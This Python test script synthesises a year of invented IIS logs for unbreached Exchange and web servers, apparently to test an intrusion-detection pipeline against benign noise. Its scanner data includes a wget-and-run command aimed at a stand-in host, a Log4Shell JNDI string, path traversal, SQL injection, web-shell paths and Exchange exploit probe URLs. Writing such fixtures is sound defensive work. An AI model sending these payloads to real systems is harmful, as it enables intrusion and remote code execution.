"""IIS logs of servers that face the Internet and that nobody broke into, as long as asked for.

    python -m tests.pipeline.internet_year FOLDER [DAYS] [SEED]

Scanners of every kind ask for web shells, flaws and methods; programs use interfaces of their own, alone, without a
referer, at odd hours; administrators change settings from outside.  Everything is invented; addresses are arbitrary.
"""

import sys
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random

FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
    "sc-substatus sc-win32-status time-taken"
)
START = datetime(2023, 1, 1, tzinfo=UTC)
SITE = "https://www.example.test"
BROWSER = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/120.0+Safari/537.36"
SHELLS = """
/owa/auth/shell.aspx /owa/auth/help.aspx /owa/auth/OutlookEN.aspx /owa/auth/RedirSuiteServerProxy.aspx
/owa/auth/8Lw7tAhF9i1pJnRo.aspx /owa/auth/one.aspx /owa/auth/errorEE.aspx /aspnet_client/shell.aspx
/aspnet_client/discover.aspx /aspnet_client/supp0rt.aspx /aspnet_client/system_web/error.aspx /ecp/auth/shell.aspx
/shell.aspx /cmd.aspx /c99.php /wso.php /alfa.php /wp-login.php /xmlrpc.php /phpinfo.php /about.php
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /shell.asp /1.asp /up.asp /cmd.jsp /test.jsp /x.jspx /cgi-bin/a.cgi
/cgi-bin/b.pl /.env /.git/config /uploads/shell.ashx /images/x.ashx /webadmin/x.cer /manager/html /owa/auth/x.js
""".split()
QUERIES = (
    "-", "-", "-", "cmd=whoami", "exec_code=Response.Write(1)", "c=wget+http://198.51.100.1/x.sh;sh+x.sh",
    "lang=../../../../etc/passwd", "q=%24%7Bjndi:ldap://203.0.113.7/a%7D", "id=1'+UNION+SELECT+1,2,3--",
    "ip=127.0.0.1&port=22", "file=C:%5CWindows%5Cwin.ini", "data=" + "QUJD" * 80,
)  # fmt: skip
PRODUCTS = (
    "/_layouts/15/start.aspx", "/_vti_bin/lists.asmx", "/DesktopModules/Admin/DialogHandler.aspx",
    "/umbraco/webservices/codeEditorSave.asmx", "/sitecore/login/default.aspx", "/CMSPages/logon.aspx",
    "/ckeditor/filemanager/connectors/aspx/connector.aspx",
)  # fmt: skip
"""Products of other makers."""
AUTODISCOVER = "/autodiscover/autodiscover.json"
PROBES = (
    ("GET", AUTODISCOVER, "@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example"),
    ("GET", AUTODISCOVER, "@a.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.example"),
    ("GET", AUTODISCOVER, "a@b.example/owa/?&Email=autodiscover/autodiscover.json?a@b.example&FooProtocol=Powershell"),
    ("GET", AUTODISCOVER, "@zdi/Powershell"),
    ("POST", AUTODISCOVER, "@evil.example/ews/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.example"),
    ("POST", "/ecp/y.js", "-"), ("GET", "/ecp/y.js", "-"), ("POST", "/ecp/main.css", "-"),
    ("POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory"),
    ("POST", "/ecp/proxyLogon.ecp", "-"), ("POST", "/owa/a%40b.example/powershell", "-"),
    ("POST", "/ecp/about/RulesEditor/InboxRules.svc/NewObject", "SecurityToken=x"),
    ("GET", "/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2fwEy"),
    ("POST", "/owa/calendar/a/b/owa14.aspx", "-"), ("GET", "/powershell/", "X-Rps-CAT=VgEAVAdX"),
    ("GET", "/owa/auth/logon.aspx", "replaceCurrent=1"), ("POST", "/ews/exchange.asmx", "-"),
    ("RPC_IN_DATA", "/rpc/rpcproxy.dll", "mail.example.test:6001"), ("OPTIONS", "/", "-"), ("PROPFIND", "/", "-"),
    ("TRACE", "/", "-"), ("DEBUG", "/x.aspx", "-"), ("CONNECT", "/", "-"), ("PUT", "/x.aspx", "-"),
    ("MOVE", "/1.txt", "-"), ("SEARCH", "/", "-"), ("ABCD", "/", "-"),
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0+zgrab/0.x", "-", "python-requests/2.25.1", "ExchangeServicesClient/0.0.0.0", "Go-http-client/1.1",
    "Mozilla/5.0+(compatible;+Nmap+Scripting+Engine)", "antSword/v2.1", "Hello,+World", "${jndi:ldap://x}",
    "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)", "sqlmap/1.5",
)  # fmt: skip
Answer = Callable[[Random, str, str], int]


class Year:
    """The requests to one server."""

    def __init__(self, seed: int, days: int) -> None:
        self.rng = Random(seed)
        self.days = days
        self._rows: list[tuple[datetime, int, str]] = []

    def ask(
        self,
        at: datetime,
        client: str,
        method: str,
        stem: str,
        query: str = "-",
        status: int = 200,
        agent: str = BROWSER,
        referer: str = "-",
        user: str = "-",
    ) -> None:
        """One request."""
        row = f"{at:%Y-%m-%d %H:%M:%S} 10.0.0.7 {method} {stem} {query} 443 {user} {client} {agent} {referer} {status}"
        self._rows.append((at, len(self._rows), f"{row} 0 0 15"))

    def often(self, day: int, times: int, pause: float, *request: str, **more: str) -> None:
        """A session of requests with uneven pauses of so many seconds on average."""
        at = self.at(day)
        for _ in range(times):
            at += timedelta(seconds=self.rng.expovariate(1 / pause))
            self.ask(at, *request, **more)  # type: ignore[arg-type]  # texts only

    def at(self, day: int, first: int = 0, last: int = 80_000) -> datetime:
        """Some moment of a day."""
        return START + timedelta(days=day, seconds=self.rng.uniform(first, last))

    def outsider(self) -> str:
        """An address nobody has seen before."""
        return f"{self.rng.choice((45, 61, 103, 141, 185, 193))}.{self.rng.randrange(256)}.{self.rng.randrange(256)}.9"

    def scanners(self, day: int, answer: Answer) -> None:
        """Whoever knocks on this day."""
        rng = self.rng
        for knocks, pause in [(rng.randrange(1, 6), 20)] * rng.randrange(2, 6) + [(200, 0.2)] * (rng.random() < 0.05):
            client, agent, at = self.outsider(), rng.choice(AGENTS), self.at(day)
            for _ in range(knocks):
                method, stem, query = rng.choice(PROBES)
                if rng.random() < 0.6:
                    method, stem, query = rng.choice(("GET", "GET", "POST")), rng.choice(SHELLS), rng.choice(QUERIES)
                at += timedelta(seconds=rng.expovariate(1 / pause))
                self.ask(at, client, method, stem, query, answer(rng, method, stem), agent)
        if rng.random() < 0.1:
            client, stem, at = self.outsider(), rng.choice(SHELLS), self.at(day)
            for _ in range(rng.randrange(5, 12)):
                at += timedelta(seconds=rng.expovariate(1 / 60))
                self.ask(at, client, "POST", stem, rng.choice(QUERIES), answer(rng, "POST", stem), rng.choice(AGENTS))

    def guessers(self, day: int, answer: Answer) -> None:
        """Who asks for other makers' products, and who posts again and again to a page of a name of his own."""
        rng, client, at = self.rng, self.outsider(), self.at(day)
        for stem in rng.sample(PRODUCTS, 3):
            self.ask(at, client, "GET", stem, "-", answer(rng, "GET", stem), rng.choice(AGENTS))
        folder = rng.choice(("/aspnet_client/", "/owa/auth/", "/ecp/auth/", "/uploads/"))
        stem = f"{folder}{rng.randrange(16**6):x}.{rng.choice(('aspx', 'ashx'))}"
        for _ in range(rng.randrange(4, 12)):
            at, method = at + timedelta(seconds=rng.expovariate(1 / 60)), rng.choice(("POST", "POST", "GET"))
            query = rng.choice(("-", "cmd=whoami", "exec=ipconfig", "ip=10.0.0.1&port=445"))
            self.ask(at, client, method, stem, query, answer(rng, method, stem), "-")

    def exchange(self, day: int) -> None:
        """Mail clients, and an administrator from inside and outside."""
        rng = self.rng
        for number in range(5):
            user, client = f"CORP\\u{number}", f"79.20.{number}.{10 + day % 3}"
            for stem in ("/Microsoft-Server-ActiveSync/default.eas", "/mapi/emsmdb/", "/EWS/Exchange.asmx"):
                self.often(day, 3, 900, client, "POST", stem, "Cmd=Ping", agent="Apple-iPhone12C1/1803.59", user=user)
            self.ask(self.at(day), client, "POST", "/Autodiscover/Autodiscover.xml", "-", 401, "Microsoft+Office/16.0")
            at = self.at(day, 25_000)
            self.ask(at, client, "GET", "/owa/auth/logon.aspx", "replaceCurrent=1")
            self.ask(at, client, "POST", "/owa/auth.owa", "-", 302, referer=f"{SITE}/owa/auth/logon.aspx", user=user)
            self.ask(at, client, "POST", "/owa/service.svc", "action=GetItem", referer=f"{SITE}/owa/", user=user)
        if day % 3 == 0:
            client, more = rng.choice(("10.1.1.5", "79.20.99.4")), {"user": "CORP\\admin", "referer": f"{SITE}/ecp/"}
            for service in ("DDI/DDIService.svc/SetObject", "RulesEditor/InboxRules.svc/NewObject"):
                self.often(day, 3, 20, client, "POST", f"/ecp/{service}", "msExchEcpCanary=AbC", **more)
            self.often(day, 1, 20, client, "GET", "/ecp/VDirMgmt/ResetVirtualDirectory.aspx", "vdirtype=OAB", **more)

    def site(self, day: int) -> None:
        """Visitors of an ordinary site, and the programs that use it."""
        pages = ("/default.aspx", "/products.aspx", "/contact.aspx", "/login.aspx", "/search.aspx")
        for _ in range(8):
            client, at, came = f"84.{self.rng.randrange(40)}.1.{self.rng.randrange(255)}", self.at(day, 25_000), "-"
            for page in self.rng.sample(pages, self.rng.randrange(1, 6)):
                self.ask(at, client, "GET", page, referer=came)
                self.ask(at, client, "GET", "/site.css", referer=SITE + page)
                at, came = at + timedelta(seconds=self.rng.uniform(5, 90)), SITE + page
        for seconds in range(0, 86_400, 3600):
            self.ask(START + timedelta(days=day, seconds=seconds), "62.4.4.4", "GET", "/status/poll.ashx", "t=1")
        for seconds in range(0, 86_400, 7200):
            at = START + timedelta(days=day, seconds=seconds + self.rng.randrange(20))
            self.ask(at, "10.0.9.9", "GET", "/monitor/tcp.aspx", "host=db01&port=1433", agent="PRTG")
        self.programs(day, day / self.days)

    def programs(self, day: int, part: float) -> None:
        """Those that come alone, now and then, some of them only since a while."""
        rng, many = self.rng, self.often
        if part > 0.4 and rng.random() < 0.25:
            many(day, rng.randrange(1, 6), 120, "54.187.1.1", "POST", "/hooks/pay.ashx", agent="Stripe/1.0")
        if part > 0.7 and rng.random() < 0.25:
            many(day, rng.randrange(3, 9), 60, "141.101.9.9", "POST", "/crm/inbound.aspx", agent="-")
        if day % 30 == 5:
            many(day, 12, 45, "91.5.5.5", "POST", "/partner/upload.ashx", "name=invoice.pdf", agent="okhttp/4.9")
        if 0.5 < part < 0.56:
            token = "".join(rng.choice("abcdefghijABCDEFGHIJ0123456789") for _ in range(240))
            many(day, 15, 30, "79.44.1.7", "POST", "/mobile/api.ashx", f"token={token}", agent="okhttp/4.9")
        if day % 9 == 0:
            many(day, 2, 30, "10.2.0.2", "POST", "/certsrv/certfnsh.asp", user="CORP\\u1")
            many(day, 2, 30, "79.3.3.3", "POST", "/certsrv/mscep/mscep.dll", f"message={'MIIJ' * 60}", agent="PKI")
        if rng.random() < 0.1:
            many(day, 8, 20, "10.0.3.3", "POST", "/agent/report.asp", f"data={'SGVsbG8gV29ybGQ' * 20}", agent="-")
            many(day, 6, 90, "10.0.3.4", "POST", "/jobs/run.aspx", "cmd=net+use&task=powershell", agent="-")
        if rng.random() < 0.15:
            target = f"server=app{rng.randrange(4)}&port={rng.choice((80, 443))}"
            many(
                day, 10, 15, "91.6.6.6", rng.choice(("GET", "POST")), "/noc/check.aspx", target, agent="python-requests"
            )
        many(day, 10, 30, "79.8.8.8", "POST", "/chat/longpoll.ashx", "id=1", referer=f"{SITE}/chat")

    def write(self, folder: Path) -> None:
        """One log a day, a few days missing; now and then the server starts anew within a day."""
        logs = folder / "C/inetpub/logs/LogFiles/W3SVC1"
        logs.mkdir(parents=True)
        days: dict[str, list[str]] = {}
        for _, _, row in sorted(self._rows):
            days.setdefault(row[:10], []).append(row)
        for number, (day, rows) in enumerate(days.items()):
            if number % 97 == 96:
                continue
            head = (
                f"#Software: Microsoft Internet Information Services 10.0\r\n#Date: {day} 00:00:00\r\n#Fields: {FIELDS}"
            )
            half = len(rows) // 2 if number % 20 == 0 else len(rows)
            lines = [head, *rows[:half], *([head, *rows[half:]] if half < len(rows) else [])]
            (logs / f"u_ex{day[2:].replace('-', '')}.log").write_text("\r\n".join(lines) + "\r\n", newline="")


def _patched_exchange(rng: Random, method: str, stem: str) -> int:
    """What a patched Exchange server answers."""
    low = stem.lower()
    if method in {"TRACE", "CONNECT", "DEBUG", "ABCD"}:
        return 501
    if low == "/owa/auth/logon.aspx" or method == "OPTIONS":
        return 200
    if low.startswith("/ecp/"):
        return rng.choice((302, 302, 500, 404, 401, 440))
    if low.startswith(("/autodiscover/", "/ews", "/rpc", "/mapi", "/powershell")):
        return rng.choice((401, 401, 302, 400, 404, 503))
    return rng.choice((404, 404, 302, 403, 500))


def _start_page_everywhere(rng: Random, method: str, stem: str) -> int:
    """A single-page application hands out its start page whatever is asked for."""
    return 200 if method in {"GET", "HEAD"} else rng.choice((405, 405, 404, 200))


def _not_found(rng: Random, method: str, stem: str) -> int:
    """Any other site."""
    return rng.choice((404, 404, 404, 403, 400, 500, 405))


def _error_page_with_success(rng: Random, method: str, stem: str) -> int:
    """ASP.NET shows its error page in place of its own pages, with status 200; others are not found."""
    return 200 if stem.lower().endswith((".aspx", ".ashx", ".asmx")) else _not_found(rng, method, stem)


def _filtered(rng: Random, method: str, stem: str) -> int:
    """A filter on the server shows whoever attacks a page that says so; other pages are not found."""
    suspect = ("shell", "cmd", ".php", ".asp", ".jsp", ".cgi", ".pl", "owa/", "aspnet_client/", "upload", "connector")
    return 200 if any(part in stem.lower() for part in suspect) else _not_found(rng, method, stem)


SERVERS: dict[str, tuple[Answer, bool]] = {
    "exchange": (_patched_exchange, True),
    "single-page": (_start_page_everywhere, False),
    "site": (_not_found, False),
    "error-page": (_error_page_with_success, False),
    "filtered": (_filtered, False),
}
"""How each answers scanners, and whether mail or pages are what it is for."""
GUESSED = ("error-page", "filtered")
"""Those where a guess is answered."""


def imagine(name: str, days: int, seed: int = 1) -> Year:
    """The requests to one of `SERVERS`."""
    answer, mail = SERVERS[name]
    year = Year(seed, days)
    for day in range(days):
        year.scanners(day, answer)
        if name in GUESSED and day % 4 == 1:
            year.guessers(day, answer)
        (year.exchange if mail else year.site)(day)
    return year


def invent(folder: Path, name: str, days: int, seed: int = 1) -> Year:
    """Write the logs of one of `SERVERS`."""
    year = imagine(name, days, seed)
    year.write(folder)
    return year


def main(arguments: Sequence[str]) -> None:
    """All servers below a folder."""
    days, seed = (int(arguments[at]) if len(arguments) > at else default for at, default in ((1, 365), (2, 1)))
    for name in SERVERS:
        invent(Path(arguments[0]) / name, name, days, seed)


if __name__ == "__main__":
    main(sys.argv[1:])
